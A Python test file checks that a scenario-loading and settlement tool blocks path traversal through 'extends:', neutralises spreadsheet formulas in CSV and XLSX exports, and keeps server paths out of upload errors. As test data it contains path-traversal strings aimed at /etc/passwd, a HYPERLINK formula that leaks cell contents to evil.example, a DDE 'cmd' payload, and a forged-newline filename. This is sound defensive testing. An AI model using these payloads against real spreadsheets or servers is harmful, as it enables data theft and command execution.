"""What a hostile or careless file cannot do: reach server files through `extends:`, run formulas in the officials'
spreadsheets, or learn the server's paths from an upload's error message."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from analysis import app_support as support
from analysis.cli import main
from analysis.outputs.tables import csv_text, needs_text_mark, write_csv
from sim.errors import InputError
from sim.records.ledger import read_ledger
from sim.scenario.loading import load_scenario, scenario_data

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "scenarios" / "example"
NANNING = ROOT / "scenarios" / "guangxi" / "nanning.yaml"
OUTSIDE = "extends may name only a scenario in this file's folder (or below it) or in the bundled library"


# ---------------------------------------------------------------- extends stays in its folder and the library


def _variant(folder: Path, extends: object, name: str = "variant.yaml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    text = yaml.safe_dump({"schema": "ftzshare/v1", "extends": extends, "overrides": {"horizon": {"years": 4}}})
    path.write_text(text, encoding="utf-8")
    return path


def _refusal(path: Path) -> str:
    with pytest.raises(InputError) as error:
        load_scenario(path)
    assert error.value.where == "extends"
    return error.value.line()


def test_extends_inside_the_folder_and_its_subfolders(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "base.yaml").write_bytes(NANNING.read_bytes())
    assert load_scenario(_variant(tmp_path, "sub/base.yaml")).horizon.years == 4
    # a chain may step back up, as long as it stays inside the first file's folder
    _variant(tmp_path / "sub", "../top.yaml", "middle.yaml")
    (tmp_path / "top.yaml").write_bytes(NANNING.read_bytes())
    assert load_scenario(_variant(tmp_path, "sub/middle.yaml")).horizon.years == 4


def test_extends_the_bundled_library_from_anywhere(tmp_path):
    assert load_scenario(_variant(tmp_path, "guangxi/nanning.yaml")).agreements[0].id == "nanning"
    for design in sorted((ROOT / "scenarios" / "designs").glob("*.yaml")):  # `extends: ../guangxi/nanning.yaml`
        assert load_scenario(design).agreements


@pytest.mark.parametrize(
    "extends",
    [
        "../../../../../../etc/passwd",
        "/etc/passwd",
        "../outside/base.yaml",
        "guangxi/../../README.md",  # through the library and out of it
        "sub/../../outside/base.yaml",
        "C:\\Windows\\win.ini",
        "\\\\server\\share\\base.yaml",
    ],
)
def test_extends_leaving_the_folder_is_refused_alike_whether_or_not_the_file_exists(tmp_path, extends):
    folder = tmp_path / "uploads"
    path = _variant(folder, extends)
    first = _refusal(path)
    assert OUTSIDE in first and str(tmp_path / "outside") not in first
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "base.yaml").write_bytes(NANNING.read_bytes())  # now the target exists
    assert _refusal(path) == first


def test_an_absolute_path_to_a_good_scenario_is_refused(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "base.yaml").write_bytes(NANNING.read_bytes())
    assert OUTSIDE in _refusal(_variant(tmp_path, str(tmp_path / "sub" / "base.yaml")))
    assert OUTSIDE in _refusal(_variant(tmp_path, str(NANNING)))  # even the library's, by absolute path


def test_symlinks_leaving_the_folder_are_refused_alike(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "link.yaml").symlink_to(outside / "base.yaml")  # dangling for now
    (folder / "dir").symlink_to(outside, target_is_directory=True)
    for extends in ("link.yaml", "dir/base.yaml"):
        path = _variant(folder, extends)
        missing = _refusal(path)
        (outside / "base.yaml").write_bytes(NANNING.read_bytes())
        assert _refusal(path) == missing and OUTSIDE in missing
        (outside / "base.yaml").unlink()
    (folder / "inside.yaml").write_bytes(NANNING.read_bytes())
    (folder / "alias.yaml").symlink_to(folder / "inside.yaml")  # a symlink staying inside is fine
    assert load_scenario(_variant(folder, "alias.yaml")).horizon.years == 4


def test_extends_inside_but_missing_and_odd_values(tmp_path):
    with pytest.raises(InputError) as error:
        load_scenario(_variant(tmp_path, "nope.yaml"))
    assert error.value.key == "file_missing" and error.value.where == "extends"
    for value, key in ((5, "expected_text"), ("", "extends_outside"), ("a\0b", "extends_outside")):
        with pytest.raises(InputError) as error:
            load_scenario(_variant(tmp_path, value))
        assert error.value.key == key and "\n" not in error.value.line()
    assert main(["validate", str(_variant(tmp_path, "/etc/passwd"))]) == 2


def test_an_uploaded_scenario_cannot_reach_server_files():
    for extends in ("../../../../etc/passwd", "/etc/passwd", "../../../../etc/nonexistent-file"):
        content = yaml.safe_dump({"schema": "ftzshare/v1", "extends": extends}).encode()
        with pytest.raises(InputError) as error, support.uploaded("mine.yaml", content, 1 << 20) as path:
            scenario_data(path)
        assert error.value.line() == f"error: mine.yaml:extends: {_outside_reason(extends)}"


def _outside_reason(value: str) -> str:
    return InputError("x", None, "extends_outside", value=value).reason()


# ---------------------------------------------------------------- formulas stay text in CSV and XLSX

# entity ids (the ledger strips surrounding blanks, so tab and CR are checked in test_the_rule)
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1", "-1+2", "-7"]
PARTY = "=cmd|' /C calc'!A0"


def test_the_rule():
    for value in ("=1+1", "+1", "-1+2", "@SUM(1)", "\tx", "\rx", "-1e3"):
        assert needs_text_mark(value, "total") and csv_text(value, "total") == "'" + value
    for value in ("-12.05", "-3", "0.600000", "12", "a=b", "", "中央级"):
        assert not needs_text_mark(value, "total") and csv_text(value, "total") == value
    assert needs_text_mark("-12", "entity_id") and csv_text("-12", "entity_id") == "'-12"  # an id, not a number
    assert needs_text_mark("-12") and not needs_text_mark(-12.05) and not needs_text_mark(None)


def test_write_csv_marks_text_and_keeps_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "entity_id": ["=1+1", "-5", "ok"],
            "total": ["-12.05", "+3", "7.00"],
            "fen": [-1205, 3, 700],
            "=evil": ["a", "b", "c"],
        }
    )
    write_csv(table, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines() == [
        "entity_id,total,fen,'=evil",
        "'=1+1,-12.05,-1205,a",
        "'-5,'+3,3,b",
        "ok,7.00,700,c",
    ]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """The worked example with hostile entity ids in the ledger and a hostile party and scenario name."""
    folder = tmp_path_factory.mktemp("hostile")
    scenario = yaml.safe_load((EXAMPLE / "guangxi_example.yaml").read_text(encoding="utf-8"))
    scenario["name"] = "=1+1"
    scenario["parties"][0]["name"] = PARTY
    (folder / "s.yaml").write_text(yaml.safe_dump(scenario, allow_unicode=True), encoding="utf-8")
    rows = list(csv.reader(io.StringIO((EXAMPLE / "ledger.csv").read_text(encoding="utf-8"))))
    ids = {}
    for row in rows[1:]:
        if row[0] not in ids and len(ids) < len(HOSTILE):
            ids[row[0]] = HOSTILE[len(ids)]
        row[0] = ids.get(row[0], row[0])
    with (folder / "ledger.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    out = folder / "out"
    assert main(["settle", str(folder / "s.yaml"), "--ledger", str(folder / "ledger.csv"), "--out", str(out)]) == 0
    return out


def test_csv_shows_hostile_ids_as_text_and_amounts_as_numbers(hostile_run):
    by_entity = list(csv.DictReader(io.StringIO((hostile_run / "allocation_by_entity.csv").read_text("utf-8"))))
    assert {row["entity_id"] for row in by_entity} >= {"'" + v for v in HOSTILE}
    number = re.compile(r"-?[0-9]+(\.[0-9]+)?")
    negative = 0
    for path in hostile_run.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        for row in rows:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert number.fullmatch(cell), (path.name, cell)  # only plain numbers may start so
                    negative += 1
    assert negative > 10  # refunds and negative increments are there, unquoted: -50000.00
    assert "-50000.00" in (hostile_run / "allocation_by_entity.csv").read_text(encoding="utf-8")


def test_xlsx_shows_hostile_names_as_text_and_amounts_as_numbers(hostile_run):
    path = hostile_run / "allocation.xlsx"
    with zipfile.ZipFile(path) as archive:
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist())
    book = openpyxl.load_workbook(path)
    texts, negatives = {}, 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts[cell.value] = cell.coordinate
                if isinstance(cell.value, (int, float)) and cell.value < 0:
                    negatives += 1
    assert PARTY in texts and "=1+1" in texts  # the party name in the tables, the scenario name on 说明
    assert negatives > 10  # amounts stay numbers Excel can sum


def test_xlsx_downloads_of_the_app_keep_text_text():
    table = pd.DataFrame({"name": ["=1+1", "-5"], "value": [-12.5, 3.0]})
    book = openpyxl.load_workbook(io.BytesIO(support.xlsx_bytes("t", table)))
    sheet = book.active
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("=1+1", "s"), ("-5", "s")]
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-12.5, "n"), (3, "n")]


# ---------------------------------------------------------------- uploads are named by their own name


def test_upload_errors_name_the_upload_not_the_server_path():
    seen = []
    with pytest.raises(InputError) as error, support.uploaded("../../x/mine.yaml", b"name: [unclosed\n", 1000) as path:
        seen.append(path)
        scenario_data(path)
    assert error.value.file == "mine.yaml" and error.value.line().startswith("error: mine.yaml:line ")
    assert "ftzshare-upload-" not in error.value.line() and not seen[0].parent.exists()  # removed after use


def test_ledger_upload_errors_name_the_upload():
    scenario = load_scenario(EXAMPLE / "guangxi_example.yaml")
    bad = b"entity_id,origin_area,zone,year,month,tax_type,amount\nN1,nanning_ftz,nanning_cdz,2023,1,vat,1.001\n"
    with pytest.raises(InputError) as error, support.uploaded("台账 2024.csv", bad, 1 << 20) as path:
        read_ledger(path, scenario)
    assert error.value.file == "台账 2024.csv" and "ftzshare-upload-" not in error.value.line()
    with support.uploaded("ok.xlsx", b"PK", 100) as path:
        assert path.name == "upload.xlsx"  # the suffix tells the reader the format; the name is never used on disk


def test_upload_names_are_one_printable_line():
    assert support.upload_name("C:\\Users\\a\\evil\nerror: forged.yaml") == "evil?error: forged.yaml"
    assert support.upload_name("") == "upload" and len(support.upload_name("x" * 500 + ".yaml")) == 120
    with pytest.raises(InputError) as error, support.uploaded("/srv/big.yaml", b"x" * 11, 10):
        pass
    assert error.value.file == "big.yaml" and error.value.key == "file_too_large"


def test_libreoffice_reads_the_hostile_files_as_text(hostile_run, tmp_path):
    """LibreOffice opens the CSV with formula evaluation on, and the workbook; it finds no formula in either."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice not installed")
    csv_path, xlsx_path = tmp_path / "by_entity.csv", tmp_path / "workbook.xlsx"
    shutil.copy(hostile_run / "allocation_by_entity.csv", csv_path)
    shutil.copy(hostile_run / "allocation.xlsx", xlsx_path)
    for source, infilter, hostile in (
        (csv_path, ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,true"], "HYPERLINK"),  # evaluate formulas
        (xlsx_path, [], "=cmd|"),
    ):
        done = subprocess.run(
            [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", *infilter]
            + ["--convert-to", "ods", "--outdir", str(tmp_path / "lo-out"), str(source)],
            capture_output=True,
            text=True,
            timeout=180,
        )
        assert done.returncode == 0, done.stderr
        with zipfile.ZipFile(tmp_path / "lo-out" / source.with_suffix(".ods").name) as archive:
            content = archive.read("content.xml").decode()
        assert "table:formula" not in content, source.name
        assert hostile in content  # the hostile text is there, as text …
        assert re.search(r'office:value-type="float" office:value="-[0-9]', content)  # … and negative numbers
